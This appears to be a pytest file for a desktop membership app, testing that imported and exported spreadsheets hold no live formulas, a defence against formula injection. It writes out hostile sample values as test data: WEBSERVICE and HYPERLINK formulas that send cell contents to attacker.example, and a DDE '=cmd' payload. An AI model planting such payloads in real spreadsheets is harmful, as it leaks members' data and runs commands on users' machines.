"""A hostile workbook cannot turn an export into a weapon: names and notes that look like formulas are imported
as the text they are and exported as text; formula cells are reported on their row, naming the cell.

The attack: a workbook whose names and notes read =WEBSERVICE(…)/=HYPERLINK(…) is imported once; the member
list exported later must hold no formula that would send other members' data out when it is opened.
"""

import datetime as dt
import re
import zipfile

from openpyxl import Workbook, load_workbook
from xlsx_helpers import counts

from desktop_app.cli import main
from desktop_app.interchange import xlsx_export
from desktop_app.store.models import Meeting, Person

WEBSERVICE = '=WEBSERVICE("http://attacker.example/?d="&A3&B3)'
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hồ sơ")'


def _hostile(path):
    wb = Workbook()
    ws = wb.active
    ws.title = "Danh sách"
    ws.append(["Họ và tên", "Giới tính", "Chi bộ", "Ghi chú"])
    text_rows = [[WEBSERVICE, "Nam", "CB01", HYPERLINK],
                 ["\t=1+2", "Nữ", "CB01", "+SUM(1,2)"],
                 ["@SUM(1+1)", "Nam", "CB01", "-2+3"],
                 ["#N/A", "Nam", "CB01", "\t=HYPERLINK(\"http://attacker.example\")"]]
    for number, row in enumerate(text_rows, 2):  # text cells that merely start like a formula
        for column, value in enumerate(row, 1):
            cell = ws.cell(number, column, value)
            cell.data_type = "s"
    ws.append(["Nguyễn Văn Ghi Chú", "Nam", "CB01", HYPERLINK])  # row 6: a real formula in the note
    ws.append([WEBSERVICE, "Nữ", "CB01", "ghi chú"])  # row 7: a real formula as the name
    wb.save(path)
    return path


def _formulas_in(path) -> list[str]:
    """Every formula in the workbook: <f> elements in the XML, and cells openpyxl reads as formulas."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
    for ws in load_workbook(path).worksheets:
        found += [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def test_a_hostile_workbook_imported_then_exported_holds_no_formula(tmp_path, branches, capsys, db_location):
    db = str(db_location)
    hostile = _hostile(tmp_path / "hostile.xlsx")
    errors = tmp_path / "refused.xlsx"
    assert main(["import", "members", "--db", db, str(hostile), "--errors", str(errors), "--lang", "en"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("Imported 4 members")
    assert out[1].startswith("Row 6 (Nguyễn Văn Ghi Chú): Cell D6 holds a formula (=HYPERLINK(")
    assert out[2].startswith("Row 7: Cell A7 holds a formula (=WEBSERVICE(")
    # What looked like a formula was text, and stays the text it was (a tab before it is trimmed as spaces are).
    names = {p.full_name: p.note for p in Person.select()}
    assert names[WEBSERVICE] == HYPERLINK and names["=1+2"] == "+SUM(1,2)" and names["@SUM(1+1)"] == "-2+3"
    assert "Nguyễn Văn Ghi Chú" not in names

    exported = tmp_path / "members.xlsx"
    assert main(["export", "members", "--db", db, "-o", str(exported), "--lang", "en"]) == 0
    assert _formulas_in(exported) == []
    ws = load_workbook(exported).worksheets[0]
    header = [c.value for c in ws[1]]
    cells = {ws.cell(r, header.index("Full name") + 1).value: ws.cell(r, header.index("Note") + 1)
             for r in range(2, ws.max_row + 1)}
    assert set(cells) == set(names)
    assert cells[WEBSERVICE].value == HYPERLINK and cells[WEBSERVICE].data_type == "s"
    assert cells["#N/A"].data_type == "s"  # not taken for an error value either
    for row in ws.iter_rows(min_row=2):
        assert all(c.data_type in ("s", "n", "d") for c in row if c.value is not None)

    # The workbook of refused rows shows the formulas as text too.
    assert _formulas_in(errors) == []
    ws = load_workbook(errors).worksheets[0]
    refused = {ws.cell(r, 1).value: [c.value for c in ws[r]] for r in range(2, ws.max_row + 1)}
    assert set(refused) == {6, 7}
    assert HYPERLINK in refused[6] and WEBSERVICE in refused[7]
    assert "D6" in refused[6][-1] and "A7" in refused[7][-1]


def test_every_export_writes_text_as_text(tmp_path, branches):
    from desktop_app.services.people import people

    person = people.create_person({"full_name": "=1+1", "gender": "male", "status": "official",
                                   "branch": branches[0].id, "note": "=cmd|' /C calc'!A0",
                                   "workplace": "@SUM(A1)", "residence": "+1-2"})
    Meeting.create(branch=branches[0], date=dt.date(2026, 3, 3), place="=HYPERLINK(\"http://attacker.example\")",
                   theme="-1+1", chair=person)
    for path, write in ((tmp_path / "m.xlsx", lambda p: xlsx_export.export_people("members", p)),
                        (tmp_path / "t.xlsx", lambda p: xlsx_export.export_people("members", p, template=True)),
                        (tmp_path / "s.xlsx", lambda p: xlsx_export.export_meetings(p))):
        write(path)
        assert _formulas_in(path) == [], path.name
    ws = load_workbook(tmp_path / "s.xlsx").worksheets[0]
    values = [c.value for c in ws[2]]
    assert "=HYPERLINK(\"http://attacker.example\")" in values and "=1+1" in values


def test_a_formula_in_a_column_not_imported_is_ignored(tmp_path, branches):
    from desktop_app.interchange import xlsx_import

    wb = Workbook()
    ws = wb.active
    ws.append(["STT", "Họ và tên", "Giới tính", "Chi bộ"])
    ws.append([1, "Nguyễn Văn A", "Nam", "CB01"])
    ws.append(["=A2+1", "Trần Văn B", "Nam", "CB01"])  # numbered by a formula, as many lists are
    wb.save(tmp_path / "stt.xlsx")
    before = counts()
    _data, plan = xlsx_import.import_workbook("members", tmp_path / "stt.xlsx")
    assert plan.imported == 2 and not plan.refused
    assert counts()[0] == before[0] + 2
